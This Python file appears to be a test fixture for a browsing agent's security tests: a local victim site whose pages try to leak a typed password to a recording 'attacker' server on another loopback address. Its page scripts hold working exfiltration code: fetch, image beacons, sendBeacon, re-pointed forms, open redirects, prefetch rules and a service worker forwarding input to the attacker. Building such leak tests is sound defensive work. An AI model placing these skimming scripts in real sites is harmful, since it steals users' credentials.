"""A hostile little web for the security tests: a victim site on 127.0.0.1 whose pages try to leak what the agent
types, and an attacker on ANOTHER loopback address (127.0.0.2) that records every request it receives.

127.0.0.2 is a different host to the browser (and to the allowlist) but still loopback, so nothing leaves the
machine. Both servers are real Flask apps; the agent, the browser and the network are not mocked."""

from __future__ import annotations

import threading
from typing import Any

from flask import Flask, Response, redirect, request
from werkzeug.serving import make_server

SECRET = "Hunter2-Xq7Lp"  # what the tests type as {{PW}}; it must never reach the attacker, a prompt or a file


class Attacker:
    """Records every hit (method, path, query, body)."""

    def __init__(self) -> None:
        self.hits: list[dict[str, Any]] = []
        app = Flask("attacker")

        @app.before_request  # before routing's verdict: a WebSocket handshake (refused below) is a hit too
        def record() -> None:
            self.hits.append({"method": request.method, "path": request.path, "url": request.url,
                              "body": request.get_data(as_text=True), "headers": dict(request.headers)})

        @app.route("/<path:p>", methods=["GET", "POST", "PUT"])
        @app.route("/", defaults={"p": ""}, methods=["GET", "POST"])
        def any_path(p: str):
            if p == "frame":  # a cross-origin frame with a field, that sends whatever is typed into it home
                return ("<title>Frame</title><input aria-label='Frame password' type=password "
                        "oninput=\"fetch('/collect?frame='+encodeURIComponent(this.value))\">")
            return "<title>Attacker</title><h1>Attacker page</h1>"

        self.server = make_server("127.0.0.2", 0, app, threaded=True)
        self.url = f"http://127.0.0.2:{self.server.server_port}"

    def leaked(self, secret: str = SECRET) -> list[dict[str, Any]]:
        from urllib.parse import unquote_plus
        return [h for h in self.hits if secret in unquote_plus(h["url"]) or secret in unquote_plus(h["body"])
                or secret in str(h.get("headers", ""))]

    def __enter__(self) -> Attacker:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.server.shutdown()


def victim_app(attacker: str) -> Flask:
    """Pages on the allowed host that try to send a typed secret to `attacker`."""
    app = Flask("victim")
    login = ("<label>Password <input id=pw type=password name=pw></label>"
             "<button type=button onclick=\"document.title='done'\">Log in</button>")

    @app.get("/")
    def home():
        return "<title>Home</title><h1>Victim home</h1><a href='/login'>Login</a>"

    @app.get("/exfil")
    def exfil():  # the allowed page's own script sends the field out three ways
        return (f"<title>Login</title>{login}<script>const A={attacker!r};"
                "document.getElementById('pw').addEventListener('input', (e) => { const v = e.target.value;"
                "fetch(A + '/collect?fetch=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => 0);"
                "new Image().src = A + '/collect?img=' + encodeURIComponent(v);"
                "navigator.sendBeacon(A + '/collect', 'beacon=' + v);"
                "fetch(A + '/collect', {method: 'POST', body: JSON.stringify({pw: v}), mode: 'no-cors'}).catch(() => 0);"
                "});</script>")

    @app.get("/xframe")
    def xframe():  # a cross-origin iframe with its own password field
        return (f"<title>Framed</title><h1>Sign in below</h1>"
                f"<iframe title='Sign in' src='{attacker}/frame' width=400 height=120></iframe>")

    @app.get("/formframe")
    def formframe():  # a form on the allowed page posting into an iframe at the attacker
        return (f"<title>Form</title><iframe name=sink title=sink src='about:blank'></iframe>"
                f"<form method=post action='{attacker}/collect' target=sink>"
                "<input aria-label='Password' type=password name=pw><button>Send</button></form>")

    @app.get("/switch")
    def switch():  # a form that is sent home at first, and re-pointed at the attacker once a secret is in it
        return (f"<title>Switch</title><form method=post action='/ok'><input aria-label='Password' type=password "
                f"name=pw oninput=\"this.form.action={attacker + '/collect'!r}\"><button>Send</button></form>")

    @app.post("/ok")
    def ok():
        return "<title>OK</title>ok"

    @app.get("/navleak")
    def navleak():  # the page navigates to the attacker with the secret in the URL
        return (f"<title>Nav</title>{login}<script>document.getElementById('pw').addEventListener('change', (e) =>"
                f" {{ location.href = {attacker!r} + '/collect?q=' + e.target.value; }});</script>")

    @app.get("/echo")
    def echo():  # the page echoes the secret back transformed
        return ("<title>Echo</title><input aria-label='Secret' id=s oninput=\"const v=this.value;"
                "document.getElementById('o').textContent = 'upper ' + v.toUpperCase() + ' reversed ' +"
                " [...v].reverse().join('') + ' spaced ' + [...v].join(' '); this.value = v.toUpperCase();\">"
                "<p id=o>nothing yet</p>")

    @app.get("/redirect")
    def open_redirect():
        return redirect(request.args.get("to", "/"))

    @app.get("/links")
    def links():
        one = f"/redirect?to={attacker}/collect?via=redirect"
        two = "/redirect?to=" + "/redirect%3Fto%3D" + f"{attacker}/collect%3Fvia%3Dtwo-hops"
        return (f"<title>Links</title><a href='{one}'>One hop</a> <a href='{two}'>Two hops</a>"
                "<a href='/redirect?to=/'>Home via redirect</a>")

    @app.get("/assets")
    def assets():  # subresources: one straight from the attacker, one through an open redirect at home
        return (f"<title>Assets</title><h1>Assets</h1><img alt=direct src='{attacker}/collect?via=img'>"
                f"<img alt=hop src='/redirect?to={attacker}/collect%3Fvia%3Dimg-redirect'>"
                f"<iframe title=ad src='/redirect?to={attacker}/frame'></iframe>")

    @app.route("/redirect307", methods=["GET", "POST"])
    def redirect_307():  # keeps the method and the body on the next hop
        return redirect(request.args.get("to", "/"), code=int(request.args.get("code", "307")))

    @app.get("/form307")
    def form307():  # a form whose POST is answered by a 307 (or 308) to /landed, which records what it gets
        code = request.args.get("code", "307")
        return (f"<title>Form 307</title><form method=post action='/redirect307?to=/landed&code={code}'>"
                "<input aria-label='Note' name=note value='keep me'><button>Send</button></form>")

    app.config["landed"] = []

    @app.route("/landed", methods=["GET", "POST"])
    def landed():
        app.config["landed"].append((request.method, request.get_data(as_text=True)))
        return f"<title>Landed {request.method}</title><p>{request.form.get('note', 'no note')}</p>"

    @app.get("/spec-header")
    def spec_header():  # speculation rules by response header (prefetching at the attacker), and a preconnect there
        r = Response(f"<title>Spec</title><link rel=preconnect href='http://127.0.0.2:{request.args.get('pre', 9)}'>"
                     "<link rel=dns-prefetch href='//prefetched.attacker.example'>")
        r.headers["Speculation-Rules"] = '"/spec-rules.json"'
        r.headers.add("Set-Cookie", "one=1; Path=/")
        r.headers.add("Set-Cookie", "two=2; Path=/")
        return r

    @app.get("/spec-rules.json")
    def spec_rules():
        import json
        rules = {"prefetch": [{"source": "list", "urls": [f"{attacker}/collect?prefetch=header"]}]}
        return Response(json.dumps(rules), mimetype="application/speculationrules+json")

    @app.get("/sw.js")
    def service_worker():  # sends whatever the page posts to it to the attacker, then says how that went
        return Response(f"const A={attacker!r};self.addEventListener('message', (e) => "
                        "fetch(A + '/collect?sw=' + encodeURIComponent(e.data), {mode: 'no-cors'})"
                        ".then(() => e.source.postMessage('sent'), () => e.source.postMessage('failed')));",
                        mimetype="application/javascript")

    @app.get("/blob")
    def blob():
        return ("<title>Blob</title><button onclick=\"location.href = URL.createObjectURL(new Blob("
                "['<title>Blob page</title><input aria-label=Card>'], {type: 'text/html'}))\">Open</button>")

    @app.get("/file.txt")
    def text():
        return Response("plain", mimetype="text/plain")

    return app


class Hostile:
    """The victim site (127.0.0.1) and the attacker (127.0.0.2), started together."""

    def __init__(self) -> None:
        self.attacker = Attacker()
        self.app = victim_app(self.attacker.url)
        self.server = make_server("127.0.0.1", 0, self.app, threaded=True)
        self.url = f"http://127.0.0.1:{self.server.server_port}"

    def __enter__(self) -> Hostile:
        self.attacker.__enter__()
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.server.shutdown()
        self.attacker.__exit__()
